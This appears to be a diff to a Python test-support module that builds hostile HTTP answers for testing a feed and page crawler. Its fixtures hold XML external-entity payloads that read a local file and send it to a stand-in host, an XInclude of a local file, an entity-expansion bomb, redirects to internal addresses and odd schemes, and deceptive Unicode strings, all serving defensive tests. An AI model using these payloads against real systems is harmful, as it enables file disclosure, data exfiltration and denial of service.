@@ -7,6 +7,7 @@ but for what makes them hostile, so that the trap lies behind the first look.
 import gzip
 import itertools
 import json
+import random
 import zlib
 from collections.abc import AsyncIterator, Callable
 from dataclasses import dataclass
@@ -18,6 +19,7 @@ import brotli
 import zstandard
 
 from tests.support.http import Response, endless, trickle
+from tests.support.prose import paragraphs
 
 Role = Literal["feed", "sitemap", "wordpress", "listing", "page", "robots"]
 DOCUMENTS: tuple[Role, ...] = ("feed", "sitemap", "wordpress", "listing")
@@ -35,8 +37,6 @@ MB = 2**20
 TITLE = "The ferry left the harbour before the storm"
 ATOM = "http://www.w3.org/2005/Atom"
 DATE = "2026-02-28T10:00:00+00:00"
-SENTENCE = "The commission met in the valley and read the report of the surveyors. "
-PROSE = f"<p>{SENTENCE * 6}</p>"
 
 
 @dataclass(frozen=True)
@@ -58,8 +58,8 @@ class Sizes:
     """Seconds between two bytes of a slow body."""
 
 
-SMALL = Sizes(8 * MB, 3 * MB, MB // 4, 50_000, 20_000, 20_000, 5_000, 0.3)
-"""For tests with `max_size` of 2 MB: every limit is passed."""
+SMALL = Sizes(4 * MB, 2 * MB, MB // 4, 30_000, 3_000, 20_000, 1_000, 0.1)
+"""For tests with `max_size` of 1 MB: every limit is passed."""
 FULL = Sizes(1024 * MB, 100 * MB, MB, 1_000_000, 100_000, 300_000, 10_000, 1.0)
 
 
@@ -98,10 +98,12 @@ def document(
             )
             return f"<!doctype html><html><title>{name}</title><body>{links}{inside}</body></html>"
         case "page":
+            # No two sites print the same.
+            text = "".join(f"<p>{line}</p>" for line in paragraphs(random.Random(base)))
             return (
                 f"<!doctype html><html lang='en'><head><title>{name}</title>"
                 f"<meta property='article:published_time' content='{date}'></head><body><article>"
-                f"<h1>{name}</h1>{PROSE * 2}{inside}</article></body></html>"
+                f"<h1>{name}</h1>{text}{inside}</article></body></html>"
             )
         case "robots":
             return f"User-agent: *\nDisallow: /closed/\n{inside}\n"
@@ -193,7 +195,9 @@ def _stream(make: Callable[[], AsyncIterator[bytes]]) -> Answers:
 
 
 def _many_links(base: str, role: Role, count: int) -> Response:
-    paths = (f"{base}/2026/02/28/a-long-story-of-the-harbour-{n}" for n in range(count))
+    # On another site, so that not all of them are asked for; a page's must be on its own.
+    site = base if role == "listing" else "http://127.0.0.98:8080"
+    paths = (f"{site}/2026/02/28/a-long-story-of-the-harbour-{n}" for n in range(count))
     match role:
         case "feed":
             items = "".join(f"<item><link>{url}</link></item>" for url in paths)
@@ -256,19 +260,16 @@ LAUGHS = (
     + "]>"
 )
 PARAMETERS = (
-    "<!DOCTYPE rss [<!ENTITY % file SYSTEM 'file:///etc/hostname'>"
+    "<!DOCTYPE rss [<!ENTITY % file SYSTEM '{file}'>"
     "<!ENTITY % all \"<!ENTITY send SYSTEM 'http://127.0.0.9:9/?%file;'>\">%all;]>"
 )
-OUTSIDE = "<!DOCTYPE rss [<!ENTITY x SYSTEM 'file:///etc/hostname'>]>"
-INCLUDE = (
-    "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='file:///etc/hostname' "
-    "parse='text'/>"
-)
+OUTSIDE = "<!DOCTYPE rss [<!ENTITY x SYSTEM '{file}'>]>"
+INCLUDE = "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='{file}' parse='text'/>"
 DECEIT = "\u202egnp.exe \u200b\u2066Fer\u00adry\u2069 \ufeff\x1b[31mred\x07 \u200f\u061c"
 
 
-def answers(sizes: Sizes) -> dict[str, Answers]:
-    """Every hostile answer by its name."""
+def answers(sizes: Sizes, file: str = "file:///etc/hostname") -> dict[str, Answers]:
+    """Every hostile answer by its name. `file`: the address of one that nobody may see."""
     s = sizes
     line = "x" * 70 + " "
     return {
@@ -299,13 +300,13 @@ def answers(sizes: Sizes) -> dict[str, Answers]:
         "a status of its own": lambda base, role: Response(999, b"<rss/>"),
         "a redirect to itself": lambda base, role: Response(302, headers={"Location": "?"}),
         "redirects back and forth": _to("{base}/there"),
-        "a redirect to a file": _to("file:///etc/hostname"),
+        "a redirect to a file": _to(file),
         "a redirect to code": _to("javascript:alert(1)"),
         "a redirect to data": _to("data:text/html,<p>x"),
-        "a redirect to another protocol": _to("gopher://127.0.0.9:70/x"),
-        "a redirect inside": _to("http://127.0.0.99:1/"),
-        "a redirect inside, in decimal": _to("http://2130706531:1/"),
-        "a redirect with a name and password": _to("http://a:b@127.0.0.99:1/"),
+        "a redirect to another protocol": _to("gopher://127.0.0.9:8080/x"),
+        "a redirect inside": _to("http://127.0.0.99:8080/"),
+        "a redirect inside, in decimal": _to("http://2130706531:8080/"),
+        "a redirect with a name and password": _to("http://a:b@127.0.0.99:8080/"),
         "a redirect to a megabyte": _to("{base}/" + "a" * s.header),
         "a redirect to nothing": _to("http://"),
         "a header of a megabyte": _instead(b"<rss/>", X="y" * s.header),
@@ -334,9 +335,9 @@ def answers(sizes: Sizes) -> dict[str, Answers]:
             role, document(role, base, path="/" + "a" * s.header)
         ),
         "a billion laughs": _before(LAUGHS, "&j;"),
-        "an entity of a file": _before(OUTSIDE, "&x;"),
-        "entities of parameters": _before(PARAMETERS, "&send;"),
-        "an inclusion": _inside(INCLUDE),
+        "an entity of a file": _before(OUTSIDE.format(file=file), "&x;"),
+        "entities of parameters": _before(PARAMETERS.format(file=file), "&send;"),
+        "an inclusion": _inside(INCLUDE.format(file=file)),
         "a date of 1601": _dated("1601-01-01T00:00:00Z"),
         "a date of 9999": _dated("9999-12-31T23:59:59-12:00"),
         "a date of no day": _dated("2026-02-31T25:61:61+99:99"),
